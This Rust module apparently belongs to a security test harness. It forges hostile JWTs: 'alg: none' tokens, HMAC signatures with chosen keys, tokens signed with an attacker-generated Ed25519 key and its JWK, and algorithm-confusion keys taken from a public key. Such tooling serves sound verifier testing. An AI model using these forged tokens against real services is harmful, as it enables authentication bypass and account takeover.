//! Crafting hostile JWTs: re-encoding a real token's parts, `alg: none`, HMAC with a chosen
//! key, and Ed25519 with the attacker's own key.

use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use crate::error::CaseError;

/// base64url without padding.
pub(crate) fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// A JWT taken apart.
#[derive(Debug, Clone)]
pub(crate) struct Parts {
    /// The decoded header.
    pub(crate) header: Value,
    /// The decoded claims.
    pub(crate) claims: Value,
    /// The signature part as it was (base64url).
    pub(crate) signature: String,
}

/// Splits and decodes a compact JWS.
pub(crate) fn split(token: &str) -> Result<Parts, CaseError> {
    let bad = || CaseError::Unexpected("the access token is not a compact JWT".into());
    let mut it = token.split('.');
    let (Some(h), Some(p), Some(s), None) = (it.next(), it.next(), it.next(), it.next()) else {
        return Err(bad());
    };
    let decode = |part: &str| -> Result<Value, CaseError> {
        let bytes = URL_SAFE_NO_PAD.decode(part).map_err(|_| bad())?;
        serde_json::from_slice(&bytes).map_err(|_| bad())
    };
    Ok(Parts {
        header: decode(h)?,
        claims: decode(p)?,
        signature: s.to_owned(),
    })
}

fn part(v: &Value) -> String {
    b64(v.to_string().as_bytes())
}

/// `header.claims.signature` with the signature given as it is.
pub(crate) fn assemble(header: &Value, claims: &Value, signature: &str) -> String {
    format!("{}.{}.{signature}", part(header), part(claims))
}

/// HMAC-SHA256 over `header.claims` with `key`, whatever the header says.
pub(crate) fn sign_hs256(header: &Value, claims: &Value, key: &[u8]) -> String {
    use aws_lc_rs::hmac;
    let input = format!("{}.{}", part(header), part(claims));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), input.as_bytes());
    format!("{input}.{}", b64(tag.as_ref()))
}

/// The attacker's own Ed25519 key.
pub(crate) struct AttackerKey {
    pair: Ed25519KeyPair,
}

impl std::fmt::Debug for AttackerKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("AttackerKey")
    }
}

impl AttackerKey {
    /// A fresh key.
    pub(crate) fn generate() -> Result<Self, CaseError> {
        let pair = Ed25519KeyPair::generate()
            .map_err(|_| CaseError::Unexpected("cannot generate an Ed25519 key".into()))?;
        Ok(Self { pair })
    }

    /// Its public JWK, as an attacker would embed or host it.
    pub(crate) fn jwk(&self, kid: &str) -> Value {
        json!({
            "kty": "OKP",
            "crv": "Ed25519",
            "x": b64(self.pair.public_key().as_ref()),
            "kid": kid,
            "alg": "EdDSA",
            "use": "sig",
        })
    }

    /// Signs `header.claims` with EdDSA.
    pub(crate) fn sign(&self, header: &Value, claims: &Value) -> String {
        let input = format!("{}.{}", part(header), part(claims));
        let sig = self.pair.sign(input.as_bytes());
        format!("{input}.{}", b64(sig.as_ref()))
    }
}

/// The byte strings a confused verifier might use as an HMAC key for a public key: the raw
/// key, its base64url text, the JWK JSON and the SPKI PEM.
pub(crate) fn confusion_keys(jwk: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let mut out = Vec::new();
    let x = jwk.get("x").and_then(Value::as_str).unwrap_or_default();
    if let Ok(raw) = URL_SAFE_NO_PAD.decode(x) {
        if jwk.get("crv").and_then(Value::as_str) == Some("Ed25519") && raw.len() == 32 {
            // SubjectPublicKeyInfo for Ed25519: a fixed 12-byte prefix, then the key.
            let mut der = vec![
                0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00,
            ];
            der.extend_from_slice(&raw);
            let pem = format!(
                "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
                STANDARD.encode(&der)
            );
            out.push(("pem", pem.into_bytes()));
        }
        out.push(("raw", raw));
    }
    out.push(("x", x.as_bytes().to_vec()));
    out.push(("jwk", jwk.to_string().into_bytes()));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn split_and_assemble_round_trip() {
        let h = json!({"alg": "none", "typ": "at+jwt"});
        let c = json!({"sub": "u", "exp": 1});
        let t = assemble(&h, &c, "");
        assert!(t.ends_with('.'));
        let p = split(&t).unwrap();
        assert_eq!(p.header, h);
        assert_eq!(p.claims, c);
        assert!(split("a.b").is_err());
        let signed = sign_hs256(&h, &c, b"k");
        assert_eq!(split(&signed).unwrap().signature.len(), 43);
        let key = AttackerKey::generate().unwrap();
        let signed = key.sign(&h, &c);
        assert_eq!(split(&signed).unwrap().signature.len(), 86);
        assert_eq!(confusion_keys(&key.jwk("k")).len(), 4);
    }
}
